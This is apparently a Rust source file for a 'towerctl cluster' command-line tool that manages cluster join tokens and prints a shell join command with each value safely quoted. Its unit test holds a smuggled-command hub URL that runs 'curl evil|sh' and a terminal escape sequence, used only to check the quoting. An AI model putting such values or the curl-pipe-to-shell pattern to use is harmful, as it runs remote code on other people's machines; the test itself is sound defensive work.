//! `towerctl cluster add|rotate|revoke|list|rm`.

use anyhow::{Context, Result};

use super::exit;
use super::hub::{hub_call, no_hub};
use crate::daemon::control::{self, ClusterAdded, ClusterStatus, Request, TokenState};
use crate::daemon::fmt::fmt_unix;
use crate::daemon::fmt::humanize;
use crate::daemon::labels::{self, Labels};
use crate::daemon::names::validate_name;

fn print_join(v: serde_json::Value, output: &str, what: &str) -> Result<u8> {
    let added: ClusterAdded = serde_json::from_value(v).context("malformed answer from the hub")?;
    if output == "json" {
        println!(
            "{}",
            serde_json::to_string_pretty(&serde_json::json!({
                "name": added.name,
                "token": added.token,
                "expiresAt": added.expires_at.map(fmt_unix),
                "hub": added.tunnel_url,
                "hubKey": added.hub_key,
            }))?
        );
        return Ok(exit::OK);
    }
    let expiry = match added.expires_at {
        Some(t) => format!("expires {}", fmt_unix(t)),
        None => "never expires".to_string(),
    };
    eprintln!(
        "cluster '{}' {what}. Run this in the member (the token is shown once, {expiry}):",
        added.name
    );
    println!("{}", join_command(&added));
    Ok(exit::OK)
}

/// The one command a member runs to join (holds the token: shown once).
/// The token travels in `TOWERCTL_TOKEN`, not in an argument (which `ps`
/// shows to every local user), and the line starts with a space so that
/// shells ignoring such lines (bash's `HISTCONTROL=ignorespace`, the
/// default `ignoreboth` of many distributions; zsh's
/// `HIST_IGNORE_SPACE`) keep it out of their history.
/// Push mode: the agent listens on loopback in the member by default, on
/// the same port as the hub-side target; edit to taste.
pub fn join_command(added: &ClusterAdded) -> String {
    let exposes: String = added
        .exposes
        .iter()
        .map(|(n, t)| {
            let arg = format!(
                "{n}=127.0.0.1:{}",
                t.rsplit_once(':').map(|x| x.1).unwrap_or("0")
            );
            format!(" --expose {}", shell_word(&arg))
        })
        .collect();
    let more: String = added
        .more_hubs
        .iter()
        .map(|u| format!(" --hub {}", shell_word(u)))
        .collect();
    let impersonate = if added.impersonate {
        " --impersonate"
    } else {
        ""
    };
    format!(
        " TOWERCTL_TOKEN={} towerctl join {} --hub {}{more} --hub-key {}{impersonate}{exposes}",
        shell_word(added.token.expose()),
        shell_word(&added.name),
        shell_word(&added.tunnel_url),
        shell_word(&added.hub_key)
    )
}

/// `s` as one shell word: as it is when it holds only characters no shell
/// reads specially, else single-quoted. The join command is pasted into a
/// shell on the member, and its URLs can come from the shared registry
/// (any hub of the group, or whoever writes to etcd), where a `;` would
/// have run a command of its own; anything not printable is escaped.
pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !s.is_empty() && s.chars().all(plain) {
        return std::borrow::Cow::Borrowed(s);
    }
    let shown = crate::tunnel::shown(s);
    std::borrow::Cow::Owned(format!("'{}'", shown.replace('\'', "'\\''")))
}

pub async fn add(
    name: &str,
    ttl_secs: u64,
    reusable: bool,
    impersonate: bool,
    exposes: Vec<(String, String)>,
    labels: Labels,
    output: &str,
) -> Result<u8> {
    validate_name(name).map_err(anyhow::Error::msg)?;
    let v = hub_call(Request::ClusterAdd {
        name: name.to_string(),
        ttl_secs,
        reusable,
        impersonate,
        exposes,
        labels,
    })
    .await?;
    print_join(v, output, "registered")
}

pub async fn rotate(
    name: &str,
    ttl_secs: u64,
    reusable: bool,
    new_key: bool,
    output: &str,
) -> Result<u8> {
    validate_name(name).map_err(anyhow::Error::msg)?;
    let v = hub_call(Request::ClusterRotate {
        name: name.to_string(),
        ttl_secs,
        reusable,
        new_key,
    })
    .await?;
    let code = print_join(
        v,
        output,
        "has a new join token (the old one no longer works)",
    )?;
    if new_key && output != "json" {
        eprintln!("The agent key is retired, and refused from now on: on the member, remove the agent's key file first (agents/{name}.key in towerctl's config directory there: ~/.config/towerctl unless XDG_CONFIG_HOME says otherwise; or the one --key-file names; the agent's refusal names it), then run the join command; towerctl makes a new key. A pod agent: print its manifest again without --key-file (a new key) and apply it.");
    }
    Ok(code)
}

pub async fn expose(name: &str, add: Vec<(String, String)>, remove: Vec<String>) -> Result<u8> {
    validate_name(name).map_err(anyhow::Error::msg)?;
    let v = hub_call(Request::ClusterExpose {
        name: name.to_string(),
        add,
        remove,
    })
    .await?;
    let now: std::collections::BTreeMap<String, String> =
        serde_json::from_value(v).unwrap_or_default();
    if now.is_empty() {
        println!("cluster '{name}' exposes nothing on the hub side");
    }
    for (n, t) in now {
        println!("{n} -> {t}");
    }
    Ok(exit::OK)
}

pub async fn label(name: &str, changes: &[String]) -> Result<u8> {
    validate_name(name).map_err(anyhow::Error::msg)?;
    let (set, remove) = labels::parse_changes(changes).map_err(anyhow::Error::msg)?;
    let v = hub_call(Request::ClusterLabel {
        name: name.to_string(),
        set,
        remove,
    })
    .await?;
    let now: Labels = serde_json::from_value(v).context("malformed answer from the hub")?;
    println!("cluster '{name}' labeled: {}", labels::display(&now));
    Ok(exit::OK)
}

pub async fn set(name: &str, impersonate: Option<bool>) -> Result<u8> {
    validate_name(name).map_err(anyhow::Error::msg)?;
    if impersonate.is_none() {
        anyhow::bail!("nothing to change: pass --impersonate or --no-impersonate");
    }
    let v = hub_call(Request::ClusterSet {
        name: name.to_string(),
        impersonate,
    })
    .await?;
    let on = v["impersonate"].as_bool().unwrap_or(false);
    println!(
        "cluster '{name}': {}",
        if on {
            "operators act as themselves (impersonation); its agent must run with --impersonate"
        } else {
            "operators act with the agent's identity; its agent must run without --impersonate"
        }
    );
    println!(
        "{}",
        restart_agent_hint(name, if on { "with" } else { "without" })
    );
    Ok(exit::OK)
}

/// How a member's agent is started again with or without `--impersonate`
/// (a running agent keeps the mode it was started in).
pub fn restart_agent_hint(name: &str, with: &str) -> String {
    format!(
        "A running agent keeps its mode until started again {with} --impersonate: on the member, 'towerctl leave {name}' then its join command {with} --impersonate (its key is kept; a spent token is not needed); a pod agent: print its manifest again {with} --impersonate and apply it"
    )
}

pub async fn revoke(name: &str) -> Result<u8> {
    validate_name(name).map_err(anyhow::Error::msg)?;
    hub_call(Request::ClusterRevoke {
        name: name.to_string(),
    })
    .await?;
    println!("cluster '{name}' revoked: its session was cut and its agent is refused from now on");
    Ok(exit::OK)
}

pub async fn remove(name: &str) -> Result<u8> {
    validate_name(name).map_err(anyhow::Error::msg)?;
    hub_call(Request::ClusterRemove {
        name: name.to_string(),
    })
    .await?;
    println!("cluster '{name}' removed");
    Ok(exit::OK)
}

fn token_column(c: &ClusterStatus) -> String {
    match (c.token_state, c.token_expires_at) {
        (TokenState::Unused, Some(t)) => {
            let left = t.saturating_sub(control::now_unix());
            format!("unused, expires in {}", humanize(left))
        }
        (TokenState::Unused, None) => "unused, no expiry".into(),
        (s, _) => s.to_string(),
    }
}

pub async fn list(output: &str) -> Result<u8> {
    let Some(s) = super::hub::hub_status().await else {
        return Err(no_hub());
    };
    match output {
        "json" | "yaml" => {
            let v: Vec<_> = s.clusters.iter().map(super::status::cluster_out).collect();
            if output == "yaml" {
                print!("{}", serde_saphyr::to_string(&v)?);
            } else {
                println!("{}", serde_json::to_string_pretty(&v)?);
            }
        }
        _ => {
            let wide = output == "wide";
            let dash = || "-".to_string();
            if wide {
                println!(
                    "{:<20} {:<16} {:<10} {:<22} {:>9} {:<48} {:<28} {:<12} LABELS",
                    "NAME", "STATE", "VERSION", "REMOTE", "RTT", "AGENT KEY", "TOKEN", "IDENTITY"
                );
            } else {
                println!(
                    "{:<20} {:<16} {:<10} {:>9}  TOKEN",
                    "NAME", "STATE", "VERSION", "RTT"
                );
            }
            for c in &s.clusters {
                let rtt = c.rtt_ms.map(|r| format!("{r:.2}ms")).unwrap_or_else(dash);
                let version = c.agent_version.clone().unwrap_or_else(dash);
                if wide {
                    println!(
                        "{:<20} {:<16} {:<10} {:<22} {:>9} {:<48} {:<28} {:<12} {}",
                        c.name,
                        c.state,
                        version,
                        c.remote.clone().unwrap_or_else(dash),
                        rtt,
                        c.key_fingerprint.clone().unwrap_or_else(dash),
                        token_column(c),
                        if c.impersonate {
                            "impersonate"
                        } else {
                            "agent"
                        },
                        crate::tunnel::shown(&labels::display(&c.labels))
                    );
                } else {
                    println!(
                        "{:<20} {:<16} {:<10} {:>9}  {}",
                        c.name,
                        c.state,
                        version,
                        rtt,
                        token_column(c)
                    );
                }
            }
        }
    }
    Ok(exit::OK)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The join command is pasted into a shell on the member; a URL from
    /// the shared registry that holds a `;` (any hub of the group, or
    /// whoever writes to etcd, chooses it) must stay one argument, and
    /// nothing in it may drive the terminal that shows it.
    #[test]
    fn the_join_command_keeps_every_value_one_inert_word() {
        let added: ClusterAdded = serde_json::from_value(serde_json::json!({
            "name": "alpha",
            "token": "tj_abc",
            "expires_at": null,
            "tunnel_url": "ws://hub:8080/tunnel",
            "hub_key": "sha256:6Ct/kfLABP5tHWhCBjBeBOBvX9YhvWTrtkbgFTY1GwM",
            "more_hubs": ["wss://h2/t;curl evil|sh;#", "wss://h3/t\u{1b}]52;c;eA==\u{7}"],
        }))
        .unwrap();
        let line = join_command(&added);
        assert!(
            line.starts_with(" TOWERCTL_TOKEN=tj_abc towerctl join alpha --hub ws://hub:8080/tunnel --hub 'wss://h2/t;curl evil|sh;#'"),
            "{line}"
        );
        assert!(
            !line.contains('\u{1b}') && !line.contains('\u{7}'),
            "{line}"
        );
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word(""), "''");
    }
}
